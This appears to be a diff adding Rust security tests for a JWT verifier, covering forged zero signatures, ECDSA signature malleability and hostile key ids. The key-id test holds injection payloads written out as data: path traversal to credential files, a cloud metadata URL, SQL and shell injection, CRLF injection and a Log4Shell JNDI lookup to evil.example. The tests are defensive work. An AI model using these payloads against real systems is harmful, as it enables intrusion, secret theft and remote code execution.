@@ -1,0 +1,121 @@
+//! Attacks that are known by name, played as their authors would, as far as no other file does it: docs/attacks.md is the
+//! page about them all, and names the tests of each.
+
+use std::sync::LazyLock;
+
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use scopegate::{Error, Issuer, Verifier};
+use scopegate_issuer::{Alg, Mint, SigningKey};
+use serde_json::json;
+
+const ISSUER: &str = "https://issuer.example";
+
+static KEY: LazyLock<SigningKey> = LazyLock::new(|| SigningKey::generate(Alg::RS256));
+
+fn trusting(keys: &[&SigningKey]) -> Verifier {
+    let keys = json!({ "keys": keys.iter().map(|key| key.jwk()).collect::<Vec<_>>() }).to_string();
+    let issuer = Issuer::from_jwks(ISSUER, &keys).unwrap().client("client");
+    Verifier::builder().trust(issuer).build().unwrap()
+}
+
+fn mint() -> Mint {
+    Mint::cognito(ISSUER, "client")
+}
+
+/// The token with another signature.
+fn with_signature(token: &str, signature: &[u8]) -> String {
+    let (signing_input, _) = token.rsplit_once('.').unwrap();
+    format!("{signing_input}.{}", URL_SAFE_NO_PAD.encode(signature))
+}
+
+fn signature(token: &str) -> Vec<u8> {
+    URL_SAFE_NO_PAD.decode(token.rsplit_once('.').unwrap().1).unwrap()
+}
+
+fn assert_forged(verifier: &Verifier, token: &str) {
+    let result = verifier.verify(token);
+    assert!(matches!(result, Err(Error::BadSignature { .. })), "{result:?}");
+}
+
+// Signatures of zeros, and other spellings
+
+#[test]
+fn zeros_are_no_signature() {
+    for alg in Alg::ALL {
+        let key = SigningKey::generate(alg);
+        let verifier = trusting(&[&key]);
+        let token = mint().sign_with(&key);
+        assert!(verifier.verify(&token).is_ok(), "{alg}");
+        let length = signature(&token).len();
+        for forged in [vec![0; length], vec![0xff; length], vec![0; 1], vec![0; 2 * length]] {
+            assert_forged(&verifier, &with_signature(&token, &forged));
+        }
+    }
+}
+
+/// The order of P-256 (FIPS 186-4 §D.1.2.3).
+const ORDER: [u8; 32] = [
+    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
+    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
+];
+
+#[test]
+fn a_second_spelling_of_an_ecdsa_signature_changes_no_claim() {
+    // (r, n - s) is as good as (r, s), as SECURITY.md says. It is a signature of the same content, and of no other.
+    let key = SigningKey::generate(Alg::ES256);
+    let verifier = trusting(&[&key]);
+    let token = mint().sign_with(&key);
+    let real = signature(&token);
+    let (r, s) = real.split_at(32);
+    let second = with_signature(&token, &[r, &difference(&ORDER, s)].concat());
+    assert_ne!(second, token);
+    let id = |token: &str| verifier.verify(token).unwrap().token_id().unwrap().to_owned();
+    assert_eq!(id(&second), id(&token), "`jti` tells that it is the same token");
+    assert_forged(&verifier, &with_signature(&mint().sign_with(&key), &signature(&second)));
+}
+
+/// `a - b` of big-endian numbers of the same length.
+fn difference(a: &[u8], b: &[u8]) -> Vec<u8> {
+    let mut borrow = 0;
+    let mut digits: Vec<u8> = a
+        .iter()
+        .zip(b)
+        .rev()
+        .map(|(a, b)| {
+            let digit = i16::from(*a) - i16::from(*b) - borrow;
+            borrow = i16::from(digit < 0);
+            u8::try_from(digit.rem_euclid(256)).unwrap()
+        })
+        .collect();
+    digits.reverse();
+    digits
+}
+
+// Key ids
+
+#[test]
+fn a_key_id_is_compared_and_never_interpreted() {
+    for kid in [
+        "../../../../dev/null",
+        "/proc/self/environ",
+        "file:///etc/passwd",
+        "http://169.254.169.254/latest/meta-data/",
+        "' UNION SELECT 'secret' -- ",
+        "x' OR '1'='1",
+        "| sleep 10 #",
+        "$(id)",
+        "%00",
+        "\0",
+        "\r\nX-Injected: 1",
+        "{{7*7}}",
+        "${jndi:ldap://evil.example/a}",
+    ] {
+        // The same text is as good a name as any where the issuer uses it.
+        let named = KEY.clone().with_kid(kid);
+        assert!(trusting(&[&named]).verify(&mint().sign_with(&named)).is_ok(), "{kid:?}");
+        let error = trusting(&[&KEY]).verify(&mint().sign_with(&named)).unwrap_err();
+        assert!(matches!(error, Error::UnknownKey { .. }), "{error:?}");
+        assert!(!error.to_string().contains(['\0', '\r', '\n']), "{error}");
+    }
+}
